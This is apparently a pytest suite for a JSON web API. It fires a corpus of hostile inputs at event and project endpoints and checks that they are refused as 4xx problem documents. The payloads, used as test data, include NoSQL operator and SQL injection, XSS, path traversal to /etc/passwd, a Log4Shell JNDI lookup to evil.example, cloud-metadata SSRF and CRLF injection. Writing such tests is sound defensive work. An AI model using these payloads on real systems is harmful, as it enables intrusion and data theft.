"""Hostile input is refused before the database sees it, as problem documents, never a 5xx."""

import copy
import json
from collections.abc import AsyncIterator
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from tests.conftest import ADMIN
from tests.factories import event, project, unique_id

PROBLEM = "application/problem+json"

#: Raw JSON fragments put in place of one field. `True`: must be refused (4xx) wherever it
#: appears, because no field may hold it; `False`: a plain value that a field may or may not
#: accept, but never with a 5xx.
BODY_CORPUS: list[tuple[str, bool]] = [
    ('{"$ne": null}', True),
    ('{"$gt": ""}', True),
    ('{"$where": "sleep(1000)"}', True),
    ('[{"$regex": ".*"}]', True),
    ('{"a.b": 1}', True),
    ('{"nested": {"x.y": 1}}', True),
    ('{"\\u0000": 1}', True),
    ('{"a\\u0000b": 1}', True),
    ('"\\u0000"', True),
    ('"text with \\u0000 NUL"', True),
    ('"\\ud800"', True),
    ('"\\udfff"', True),
    ('"abc\\ud83d"', True),
    ('{"\\ud800": 1}', True),
    ("NaN", True),
    ("Infinity", True),
    ("-Infinity", True),
    ("1e999", True),
    ("-1e999", True),
    ("9223372036854775808", True),
    ("-9223372036854775809", True),
    ("123456789012345678901234567890", True),
    ('{"a": 1, "a": 2}', True),
    ("[" * 40 + "]" * 40, True),
    ("[" + ",".join(["1"] * 10_001) + "]", True),
    ("{" + ",".join(f'"k{i}": 1' for i in range(1001)) + "}", True),
    (json.dumps("x" * 100_001), True),
    ('"$ne"', False),
    ('"$where"', False),
    ('"{\\"$gt\\": \\"\\"}"', False),
    ('"\'; DROP TABLE events; --"', False),
    ('"<script>alert(1)</script>"', False),
    ('"../../../../etc/passwd"', False),
    ('"%00"', False),
    ('"${jndi:ldap://evil.example/a}"', False),
    ('"{{7*7}}"', False),
    ('"%s%s%s%s%n"', False),
    ('"\\r\\nX-Injected: 1"', False),
    ('"\\u202egnp.exe"', False),
    ('"\\ufeff"', False),
    ('"\\ud83d\\ude00"', False),
    ('"http://169.254.169.254/latest/meta-data/"', False),
    ('"javascript:alert(1)"', False),
    ('""', False),
    ('"   "', False),
    (json.dumps("x" * 20_000), False),
    ("null", False),
    ("true", False),
    ("false", False),
    ("0", False),
    ("-1", False),
    ("1.5", False),
    ("1e308", False),
    ("9223372036854775807", False),
    ("-9223372036854775808", False),
    ("[]", False),
    ("{}", False),
    ("[null]", False),
    ('[{"code": "XXX"}]', False),
    ('"2019-02-30"', False),
]

#: Query values: operators, brackets, NUL, bad encodings and the usual injection strings.
QUERY_CORPUS: list[tuple[str, bool]] = [
    ("%24ne", True),
    ("%24gt%3A0", True),
    ("%24where", True),
    ("a%00b", True),
    ("%00", True),
    ("%ED%A0%80", True),
    ("%FF%FE", True),
    ("Q.%C2%93", True),  # not a token this service signed (and not ASCII)
    ("-1", False),
    ("0", False),
    ("1e9", False),
    ("99999999999999999999999", False),
    ("NaN", False),
    ("Infinity", False),
    ("%7B%22%24gt%22%3A%22%22%7D", False),
    ("%27%3B%20DROP%20TABLE%20x", False),
    ("%3Cscript%3E", False),
    ("..%2F..%2Fetc%2Fpasswd", False),
    ("x" * 3000, False),
    ("", False),
    ("%20", False),
    ("true", False),
    ("null", False),
    ("%E2%80%AE", False),
]
#: Parameter names with operator or bracket syntax: always refused.
HOSTILE_NAMES = ["limit[%24gt]", "cursor[]", "%24where", "limit.x", "a%00b", "filter[kind]"]


def body_with(record: dict[str, Any], path: list[str | int], fragment: str) -> bytes:
    """The record as JSON with the value at `path` replaced by a raw JSON fragment."""
    marker = "__HOSTILE__"
    record = copy.deepcopy(record)
    target: Any = record
    for step in path[:-1]:
        target = target[step]
    target[path[-1]] = marker
    return json.dumps(record).replace(f'"{marker}"', fragment).encode()


def field_paths(record: dict[str, Any]) -> list[list[str | int]]:
    """Every top-level field, a new field, and a few nested ones."""
    paths: list[list[str | int]] = [[k] for k in record]
    paths += [["new_field"], ["countries", 0, "code"], ["sources", 0, "url"]]
    if "funding" in record:
        paths += [["funding", 0, "amount"]]
    if "start" in record:
        paths += [["start", "value"]]
    return paths


@pytest.fixture(scope="module")
async def unlimited(app_client) -> AsyncIterator[httpx.AsyncClient]:
    async with app_client(rate_limit_enabled=False) as c:
        yield c


async def put_raw(client: httpx.AsyncClient, body: bytes) -> httpx.Response:
    """PUT a new event with `body` sent as it is, as JSON."""
    headers = {**ADMIN, "content-type": "application/json"}
    return await client.put(f"/v1/events/{unique_id()}", content=body, headers=headers)


def assert_refused(r: httpx.Response, what: str) -> None:
    assert 400 <= r.status_code < 500, f"{what}: {r.status_code} {r.text[:300]}"
    assert r.headers["content-type"] == PROBLEM, what


async def test_hostile_corpus_gives_no_server_error(unlimited):
    """Every corpus value in every body field (PUT, POST, PATCH) and every query parameter."""
    assert len(BODY_CORPUS) + len(QUERY_CORPUS) >= 50
    sent = 0
    for collection, make in (("events", event), ("projects", project)):
        rid = unique_id()
        assert (
            await unlimited.put(f"/v1/{collection}/{rid}", json=make(), headers=ADMIN)
        ).is_success
        for path in field_paths(make()):
            for fragment, refuse in BODY_CORPUS:
                body = body_with(make(), path, fragment)
                headers = {**ADMIN, "content-type": "application/json"}
                for method, url in (
                    ("PUT", f"/v1/{collection}/{rid}"),
                    ("POST", f"/v1/{collection}"),
                ):
                    r = await unlimited.request(method, url, content=body, headers=headers)
                    sent += 1
                    what = f"{method} {path}={fragment[:60]}"
                    assert r.status_code < 500, f"{what}: {r.text[:300]}"
                    if refuse:
                        assert_refused(r, what)
            for fragment, refuse in BODY_CORPUS:
                patch = body_with({}, [str(path[0])], fragment)
                r = await unlimited.patch(
                    f"/v1/{collection}/{rid}",
                    content=patch,
                    headers={**ADMIN, "content-type": "application/merge-patch+json"},
                )
                sent += 1
                assert r.status_code < 500, f"PATCH {path}={fragment[:60]}: {r.text[:300]}"
                if refuse:
                    assert_refused(r, f"PATCH {path}={fragment[:60]}")
        targets = [
            (f"/v1/{collection}", "limit"),
            (f"/v1/{collection}", "cursor"),
            (f"/v1/{collection}/{rid}/revisions/1", None),
            (f"/v1/{collection}/{rid}", None),
        ]
        for url, param in targets:
            for value, refuse in QUERY_CORPUS:
                names = [param] if param else []
                for name in names or ["unknown"]:
                    r = await unlimited.get(f"{url}?{name}={value}")
                    sent += 1
                    assert r.status_code < 500, f"{url}?{name}={value[:60]}: {r.text[:300]}"
                    if refuse or not param:
                        assert_refused(r, f"{url}?{name}={value[:60]}")
            for value, _ in QUERY_CORPUS:  # hostile values as path segments
                r = await unlimited.get(f"/v1/{collection}/{quote(value, safe='%')}")
                sent += 1
                assert r.status_code < 500 or r.status_code == 503, value
            for name in HOSTILE_NAMES:
                r = await unlimited.get(f"{url}?{name}=1")
                sent += 1
                assert_refused(r, f"{url}?{name}")
    assert sent > 4000


@pytest.mark.parametrize(
    ("fragment", "detail"),
    [
        ('{"$set": {"owner": "me"}}', "may not start with $"),
        ('{"a.b": 1}', "may not start with $ or contain ."),
        ('{"a": 1, "a": 2}', "duplicate key 'a'"),
        ("NaN", "NaN is not a JSON number"),
        ("Infinity", "Infinity is not a JSON number"),
        ("1e999", "out of range"),
        ("9223372036854775808", "out of range"),
        ('"\\ud800"', "lone surrogate"),
        ('"a\\u0000"', "NUL"),
    ],
)
async def test_hostile_json_is_a_422_problem_naming_the_place(unlimited, fragment, detail):
    body = body_with(event(), ["summary"], fragment)
    r = await put_raw(unlimited, body)
    assert r.status_code == 422
    assert r.headers["content-type"] == PROBLEM
    [error] = r.json()["errors"]
    assert detail in error["detail"]
    assert error["pointer"] in ("", "/summary")


@pytest.mark.parametrize(
    ("setting", "fragment", "detail"),
    [
        ("json_max_depth", "[" * 33 + "]" * 33, "nesting deeper than 32"),
        ("json_max_array_items", "[" + "1," * 10_000 + "1]", "array longer than 10000"),
        ("json_max_string_chars", json.dumps("x" * 100_001), "longer than 100000"),
        ("json_max_containers", "[" + "[[]]," * 100_000 + "[]]", "more than 200000 arrays"),
    ],
)
async def test_published_json_limits(unlimited, setting, fragment, detail):
    body = body_with(event(), ["summary"], fragment)
    r = await put_raw(unlimited, body)
    assert r.status_code == 422
    assert detail in r.json()["errors"][0]["detail"]


async def test_malformed_json_is_400(unlimited):
    for raw in (b"{", b'{"title": }', b"\xff\xfe", b"[1,]", b"{'a': 1}"):
        r = await put_raw(unlimited, raw)
        assert r.status_code == 400, raw
        assert r.headers["content-type"] == PROBLEM


async def test_other_content_types_are_415(unlimited):
    body = json.dumps(event()).encode()
    for media in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data"):
        r = await unlimited.put(
            f"/v1/events/{unique_id()}", content=body, headers={**ADMIN, "content-type": media}
        )
        assert r.status_code == 415, media
        assert r.headers["content-type"] == PROBLEM


async def test_merge_patch_media_type_is_json(unlimited):
    rid = unique_id()
    await unlimited.put(f"/v1/events/{rid}", json=event(), headers=ADMIN)
    r = await unlimited.patch(
        f"/v1/events/{rid}",
        content=b'{"summary": "patched"}',
        headers={**ADMIN, "content-type": "application/merge-patch+json"},
    )
    assert r.status_code == 200


async def test_body_over_the_limit_is_413_by_content_length(app_client):
    async with app_client(max_body_bytes=2000, max_bulk_body_bytes=8000) as c:
        big = json.dumps(event(summary="x" * 3000)).encode()
        r = await c.put(
            f"/v1/events/{unique_id()}",
            content=big,
            headers={**ADMIN, "content-type": "application/json"},
        )
        assert r.status_code == 413
        assert r.headers["content-type"] == PROBLEM
        # A bulk path has its own, larger limit: the same body is not refused for its size.
        r = await c.post(
            "/v1/events/bulk", content=big, headers={**ADMIN, "content-type": "application/json"}
        )
        assert r.status_code != 413


async def test_body_over_the_limit_is_413_while_it_is_still_arriving(app_client):
    """No Content-Length (chunked): the service stops reading once the limit is passed."""
    chunk = b" " * 65_536
    produced = 0

    async def endless() -> AsyncIterator[bytes]:
        nonlocal produced
        yield b'{"title": "'
        for _ in range(200):  # 13 MB if it were all read
            produced += 1
            yield chunk

    async with app_client() as c:  # the default limit: 1 MiB for one record
        r = await c.put(
            f"/v1/events/{unique_id()}",
            content=endless(),
            headers={**ADMIN, "content-type": "application/json"},
        )
    assert r.status_code == 413
    assert r.headers["content-type"] == PROBLEM
    assert produced <= 18, f"read {produced} chunks of 64 KiB before refusing"


async def test_hostile_query_names_and_values_are_422(unlimited):
    for query in ("limit[$gt]=1", "$where=1", "limit=$ne", "cursor=a%00b", "limit.x=1"):
        r = await unlimited.get(f"/v1/events?{query}")
        assert r.status_code == 422, query
        assert r.json()["errors"][0]["in"] == "query"


async def test_records_with_plain_hostile_looking_text_are_stored_verbatim(unlimited):
    """Refusing operators must not refuse text that merely mentions them."""
    rid = unique_id()
    body = event(summary='Costs $44 million; see {"$gt": 1} and a.b')
    r = await unlimited.put(f"/v1/events/{rid}", json=body, headers=ADMIN)
    assert r.status_code == 201
    assert (await unlimited.get(f"/v1/events/{rid}")).json()["summary"] == body["summary"]
